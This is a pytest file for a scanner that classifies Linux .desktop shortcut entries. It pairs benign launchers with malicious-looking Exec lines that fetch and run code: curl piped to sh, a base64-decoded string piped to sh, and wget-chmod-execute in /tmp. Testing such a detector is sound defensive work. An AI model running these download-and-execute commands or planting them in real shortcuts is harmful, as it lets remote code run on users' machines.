"""Launchers of installed programs are ordinary, fetching shells are not."""

from collections.abc import Callable, Iterator

import pytest

from scanners.shortcuts.desktop import judge_desktop
from scanners.shortcuts.launchers import Finding

CASES = [
    ('[Desktop Entry]\nExec=sh -c "exec gimp %f"\n', []),
    ("[Desktop Entry]\nExec=curl-gui\nURL=https://www.example/", []),
    ('[Desktop Entry]\nExec=/bin/bash -c "curl http://files.example/a|sh"\n', ["download"]),
    ('[Desktop Entry]\nExec=sh -c "echo eA== | base64 -d | sh"\n', ["download"]),
    ('[Desktop Entry]\nExec=sh -c "cd /tmp; wget -q a; chmod 755 a; ./a"\n', ["download"]),
    ("[Desktop Entry]\nType=Link\nURL=file://files.example/a\n", ["remote"]),
]


@pytest.mark.parametrize("text, expected", CASES)
def test_judge_desktop(
    text: str, expected: list[str], words: Callable[[Iterator[Finding]], list[str]]
) -> None:
    assert words(judge_desktop(text)) == expected
